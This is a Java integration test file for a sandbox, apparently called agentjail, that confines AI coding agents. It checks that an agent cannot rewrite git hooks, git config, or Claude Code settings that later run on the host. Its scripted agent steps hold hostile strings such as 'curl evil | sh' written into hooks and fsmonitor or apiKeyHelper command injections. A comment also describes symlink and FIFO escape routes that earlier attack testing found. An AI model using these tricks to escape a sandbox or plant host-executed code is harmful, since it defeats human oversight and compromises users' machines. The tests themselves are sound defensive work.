package dev.agentjail.it.jail;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.agentjail.it.support.Command;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the agent writes is not run on the host: protected paths cannot be swapped out with their parents, the hooks a
 * repository's own configuration points into the working tree are read-only, git work itself still succeeds, an agent
 * settings file a preset protects cannot be created where it is missing, and a project that holds agentjail's session
 * directories is refused.
 */
@Timeout(value = 180, unit = TimeUnit.SECONDS)
class HostExecutedSurfacesTest {
    static final String HOOK = "#!/bin/sh\necho checked\n";

    @TempDir
    Path dir;

    @Test
    void theGitWorkflowWorksWhileEveryWayToSwapOrRewriteWhatGitRunsOnTheHostFails() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q", "-b", "main");
        git(p, "config", "core.hooksPath", ".husky/_");
        Files.createDirectories(p.resolve(".husky/_"));
        Files.writeString(p.resolve(".husky/pre-commit"), HOOK);
        Files.writeString(p.resolve(".husky/_/h"), HOOK);
        Files.writeString(p.resolve("a.txt"), "one\n");
        git(p, "add", "-A");
        git(p, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "one");

        AgentjailRun.Outcome o = run.bash("""
                export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
                echo "untracked=$(git status --porcelain --untracked-files=all | wc -l)"
                git checkout -q -b feature && echo two >> a.txt && git add a.txt && git commit -q -m two
                echo "commit=$?"
                git checkout -q main && git branch -q other && echo three > b.txt && git add b.txt \\
                  && git commit -q -m three && git stash -q -u 2>/dev/null; git checkout -q feature \\
                  && git rebase -q main; echo "rebase=$?"
                echo wip >> a.txt && git stash -q && git stash pop -q; echo "stash=$?"
                mv .git .git.orig 2>/dev/null; echo "mv_git=$?"
                rm -rf .husky 2>/dev/null; mv .husky .husky.orig 2>/dev/null; echo "mv_husky=$?"
                echo 'curl evil | sh' > .husky/pre-commit 2>/dev/null; echo "husky=$?"
                echo 'curl evil | sh' > .husky/_/h 2>/dev/null; echo "husky_h=$?"
                mv .git/hooks .git/hooks.orig 2>/dev/null; echo "mv_hooks=$?"
                printf '[core]\\n\\tfsmonitor = touch /tmp/planted\\n' > .git/config 2>/dev/null; echo "config=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        assertAll(
                () -> assertEquals("0", o.probe("commit"), o::describe),
                () -> assertEquals("0", o.probe("rebase"), o::describe),
                () -> assertEquals("0", o.probe("stash"), o::describe),
                () -> assertEquals("0", o.probe("untracked"), "the session's placeholders show as untracked files"));
        for (String refused : List.of("mv_git", "mv_husky", "husky", "husky_h", "mv_hooks", "config")) {
            assertNotEquals("0", o.probe(refused), () -> refused + " succeeded; " + o.describe());
        }
        assertAll(
                () -> assertEquals(HOOK, Files.readString(p.resolve(".husky/pre-commit"))),
                () -> assertEquals(HOOK, Files.readString(p.resolve(".husky/_/h"))),
                () -> assertFalse(Files.exists(p.resolve(".git.orig"), LinkOption.NOFOLLOW_LINKS)),
                () -> assertTrue(git(p, "log", "--format=%s").contains("two")));
    }

    @Test
    void whatHooksAndGitSettingsRunAndNestedRepositoriesMetadataAreReadOnly() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q");
        Files.createDirectories(p.resolve("scripts"));
        Files.writeString(p.resolve("scripts/pre-commit"), HOOK);
        Files.writeString(p.resolve("scripts/check-msg.sh"), HOOK);
        Files.writeString(p.resolve("conv.py"), "print('x')\n");
        Files.createSymbolicLink(p.resolve(".git/hooks/pre-commit"), Path.of("../../scripts/pre-commit"));
        Files.writeString(p.resolve(".git/hooks/commit-msg"), "#!/bin/sh\nexec ./scripts/check-msg.sh \"$1\"\n");
        git(p, "config", "diff.py.textconv", "python3 conv.py");
        git(p, "init", "-q", "vendor/lib");
        Files.createDirectories(p.resolve("sub"));
        Files.writeString(p.resolve("sub/.git"), "gitdir: ../.git/modules/sub\n");

        AgentjailRun.Outcome o = run.bash("""
                echo 'curl evil | sh' > scripts/pre-commit 2>/dev/null; echo "linked_hook=$?"
                echo 'curl evil | sh' > scripts/check-msg.sh 2>/dev/null; echo "called_script=$?"
                echo 'import os' > conv.py 2>/dev/null; echo "textconv=$?"
                git config -f vendor/lib/.git/config core.fsmonitor 'touch /tmp/x' 2>/dev/null; echo "nested=$?"
                echo 'gitdir: ../.m' > sub/.git 2>/dev/null; echo "gitfile=$?"
                echo ordinary >> README 2>/dev/null; echo "ordinary=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        for (String refused : List.of("linked_hook", "called_script", "textconv", "nested", "gitfile")) {
            assertNotEquals("0", o.probe(refused), () -> refused + " succeeded; " + o.describe());
        }
        assertEquals("0", o.probe("ordinary"), o::describe);
        assertAll(
                () -> assertEquals(HOOK, Files.readString(p.resolve("scripts/pre-commit"))),
                () -> assertEquals(HOOK, Files.readString(p.resolve("scripts/check-msg.sh"))),
                () -> assertEquals("gitdir: ../.git/modules/sub\n", Files.readString(p.resolve("sub/.git"))));
    }

    @Test
    void separateGitDirsNestedRepositoriesConfigAndWhatHooksRunInOtherWaysAreReadOnly() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q", "--separate-git-dir=" + p.resolve(".repo"), p.toString());
        Files.createDirectories(p.resolve("scripts"));
        Files.writeString(p.resolve("precommit.py"), "print('ok')\n");
        Files.writeString(p.resolve("scripts/cd-check.sh"), HOOK);
        Files.writeString(p.resolve("scripts/top.sh"), HOOK);
        Files.writeString(
                p.resolve(".repo/hooks/pre-commit"),
                "#!/bin/sh\npython3 precommit.py\ncd scripts && sh cd-check.sh\n"
                        + "sh \"$(git rev-parse --show-toplevel)\"/scripts/top.sh\n");
        git(p, "init", "-q", "vendor/lib");
        Path lib = p.resolve("vendor/lib");
        git(lib, "config", "core.hooksPath", ".githooks");
        git(lib, "config", "diff.x.textconv", "sh conv.sh");
        Files.createDirectories(lib.resolve(".githooks"));
        Files.writeString(lib.resolve(".githooks/pre-commit"), HOOK);
        Files.writeString(lib.resolve("conv.sh"), "cat\n");

        AgentjailRun.Outcome o = run.bash("""
                git config -f .repo/config core.fsmonitor 'touch /tmp/x' 2>/dev/null; echo "separate=$?"
                echo evil > precommit.py 2>/dev/null; echo "bare_word=$?"
                echo evil > scripts/cd-check.sh 2>/dev/null; echo "after_cd=$?"
                echo evil > scripts/top.sh 2>/dev/null; echo "from_top=$?"
                echo evil > vendor/lib/.githooks/pre-commit 2>/dev/null; echo "nested_hooks_path=$?"
                echo evil > vendor/lib/conv.sh 2>/dev/null; echo "nested_textconv=$?"
                echo fine > scripts/other.sh; echo "other=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        for (String refused :
                List.of("separate", "bare_word", "after_cd", "from_top", "nested_hooks_path", "nested_textconv")) {
            assertNotEquals("0", o.probe(refused), () -> refused + " succeeded; " + o.describe());
        }
        assertEquals("0", o.probe("other"), o::describe);
    }

    @Test
    void aNestedRepositorysIncludeAndTheUsersXdgConfigAreReadWhereGitReadsThem() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q");
        git(p, "init", "-q", "sub");
        Files.createDirectories(p.resolve("sub/tools"));
        Files.writeString(p.resolve("sub/tools/gitconfig"), "[alias]\n\tst = status\n");
        git(p.resolve("sub"), "config", "include.path", "../tools/gitconfig");
        Path xdg = Files.createDirectories(dir.resolve("xdg/git"));
        Files.writeString(xdg.resolve("config"), "[core]\n\thooksPath = .githooks\n");
        Files.createDirectories(p.resolve(".githooks"));
        Files.writeString(p.resolve(".githooks/pre-commit"), HOOK);
        run.env("XDG_CONFIG_HOME", dir.resolve("xdg").toString());

        AgentjailRun.Outcome o = run.bash("""
                printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> sub/tools/gitconfig 2>/dev/null; echo "include=$?"
                echo evil > .githooks/pre-commit 2>/dev/null; echo "xdg_hooks=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        assertAll(
                () -> assertNotEquals("0", o.probe("include"), o::describe),
                () -> assertNotEquals("0", o.probe("xdg_hooks"), o::describe),
                () -> assertFalse(Files.exists(p.resolve("tools"), LinkOption.NOFOLLOW_LINKS), "a wrong placeholder"));
    }

    @Test
    void aHookThatLeadsThroughALinkInTheProjectRefusesTheSession() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q");
        Files.createDirectories(p.resolve("scripts"));
        Files.createDirectories(p.resolve("tools"));
        Files.writeString(p.resolve("scripts/real.sh"), HOOK);
        Files.createSymbolicLink(p.resolve("tools/hook"), Path.of("../scripts/real.sh"));
        Files.createSymbolicLink(p.resolve(".git/hooks/pre-commit"), Path.of("../../tools/hook"));

        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");

        assertNotEquals(0, o.exitCode(), o::describe);
        assertTrue(o.probes().isEmpty(), o::describe);
        assertTrue(
                o.err()
                        .contains("leads through the symbolic link "
                                + p.toRealPath().resolve("tools/hook")),
                o::describe);
    }

    @Test
    void aScriptThePresetsSettingsNameInTheWritableConfigDirIsReadOnly() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir).options("--preset", "claude-code");
        Path claude = Files.createDirectories(run.home().resolve(".claude"));
        Files.writeString(
                claude.resolve("settings.json"),
                "{\"statusLine\": {\"type\": \"command\", \"command\": \"~/.claude/statusline.sh\"}}\n");
        Files.writeString(claude.resolve("statusline.sh"), HOOK);
        Files.writeString(
                claude.resolve("settings.json"),
                "{\"statusLine\": {\"type\": \"command\", \"command\": \"~/.claude/statusline.sh\"},"
                        + " \"hooks\": {\"x\": \"bash ~/.claude/scripts/hook.sh\"}}\n");
        Files.createDirectories(claude.resolve("scripts"));
        Files.writeString(claude.resolve("scripts/hook.sh"), HOOK);

        AgentjailRun.Outcome o = run.bash("""
                echo evil > ~/.claude/statusline.sh 2>/dev/null; echo "statusline=$?"
                mv ~/.claude/scripts ~/.claude/s2 2>/dev/null; echo "swap=$?"
                echo fine > ~/.claude/notes.md; echo "notes=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        assertNotEquals("0", o.probe("statusline"), o::describe);
        assertNotEquals("0", o.probe("swap"), o::describe);
        assertEquals("0", o.probe("notes"), o::describe);
        assertEquals(HOOK, Files.readString(claude.resolve("statusline.sh")));
    }

    @Test
    void permissionsTheAgentOpensUpOnARootProjectAreTakenBack() throws IOException {
        assumeTrue(AgentjailRun.isRoot(), "only a jail started by root for a root-owned project is kernel uid 0");
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q");
        Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwxr-xr-x"));

        Files.writeString(p.resolve("Makefile"), "all:\n");
        Files.createDirectories(p.resolve("src"));

        AgentjailRun.Outcome o = run.bash("""
                chmod 0777 . .git Makefile src .git/refs; echo "chmod=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        for (String entry : List.of("Makefile", "src", ".git/refs")) {
            int mode = (Integer) Files.getAttribute(p.resolve(entry), "unix:mode", LinkOption.NOFOLLOW_LINKS);
            assertEquals(0, mode & 0022, () -> entry + " stayed group/other writable; " + o.describe());
        }
        assertAll(
                () -> assertEquals("rwxr-xr-x", PosixFilePermissions.toString(Files.getPosixFilePermissions(p))),
                () -> assertEquals(
                        "rwxr-xr-x", PosixFilePermissions.toString(Files.getPosixFilePermissions(p.resolve(".git")))),
                () -> assertTrue(o.err().contains("took back the group and other write permission"), o::describe));
    }

    @Test
    void aProtectedFileWithASecondNameRefusesTheSession() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        git(p, "init", "-q");
        Files.writeString(p.resolve(".git/hooks/pre-commit"), HOOK);
        Files.createLink(p.resolve("notes.txt"), p.resolve(".git/hooks/pre-commit"));

        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");

        assertNotEquals(0, o.exitCode(), o::describe);
        assertTrue(o.probes().isEmpty(), o::describe);
        assertTrue(o.err().contains("has 2 hard links"), o::describe);
    }

    @Test
    void aPresetsMissingSettingsFileIsMadeNeutralReadOnlyAndStays() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir).options("--preset", "claude-code");
        Files.createDirectories(run.home().resolve(".claude"));

        AgentjailRun.Outcome o = run.bash("""
                echo "read=$(cat ~/.claude/settings.json)"
                echo '{"apiKeyHelper": "touch /tmp/planted"}' > ~/.claude/settings.json 2>/dev/null; echo "write=$?"
                echo '{}' > ~/.claude/other.json; echo "other=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        assertAll(
                () -> assertEquals("{}", o.probe("read"), o::describe),
                () -> assertNotEquals("0", o.probe("write"), o::describe),
                () -> assertEquals("0", o.probe("other"), o::describe),
                () -> assertEquals(
                        "{}\n",
                        Files.readString(run.home().resolve(".claude/settings.json")),
                        "made with neutral content before the jail started, and left (no session's end removes it)"),
                () -> assertTrue(o.err().contains("created ~/.claude/settings.json"), o::describe));
    }

    @Test
    void aProtectedHomePathThatIsALinkToNothingOrAFifoRefusesTheSession() throws Exception {
        // Found by attack: a dangling link got nothing bound (the agent replaced it with the file), and a FIFO bound
        // read-only still took the agent's writes to whatever read it on the host.
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir).options("--preset", "claude-code");
        Path settings = Files.createDirectories(run.home().resolve(".claude")).resolve("settings.json");
        Files.createSymbolicLink(settings, Path.of("nowhere.json"));

        AgentjailRun.Outcome linked = run.bash("echo ran=yes");

        assertEquals(2, linked.exitCode(), linked::describe);
        assertTrue(linked.err().contains("is a symbolic link to a file that does not exist"), linked::describe);
        Files.delete(settings);
        assertEquals(
                0, new ProcessBuilder("mkfifo", settings.toString()).start().waitFor());

        AgentjailRun.Outcome fifo = run.bash("echo ran=yes");

        assertEquals(2, fifo.exitCode(), fifo::describe);
        assertTrue(fifo.err().contains("is not a regular file"), fifo::describe);
        assertFalse(fifo.probes().containsKey("ran"), fifo::describe);
    }

    @Test
    void aPresetsSettingsFileWithASecondNameInTheWritableConfigDirRefusesTheSession() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir).options("--preset", "claude-code");
        Path claude = Files.createDirectories(run.home().resolve(".claude"));
        Files.writeString(claude.resolve("settings.json"), "{}");
        Files.createLink(claude.resolve("notes.json"), claude.resolve("settings.json"));

        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");

        o.assertRefused("has 2 hard links");
    }

    @Test
    void aProjectThatHoldsAgentjailsSessionDirectoriesIsRefused() throws IOException {
        AgentjailRun.requireBwrap();
        // Sessions live under $XDG_RUNTIME_DIR/agentjail: a project there would show the jail other sessions' sockets.
        AgentjailRun run = AgentjailRun.in(dir);
        run.env("XDG_RUNTIME_DIR", run.project().toString());

        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");

        o.assertRefused("holds agentjail's session directories");
    }

    static String git(Path repo, String... args) {
        List<String> argv = new ArrayList<>(List.of("git", "-C", repo.toString()));
        argv.addAll(List.of(args));
        Command.Result r = Command.run(Duration.ofSeconds(30), argv);
        assertEquals(0, r.exitCode(), r::describe);
        return r.out();
    }
}
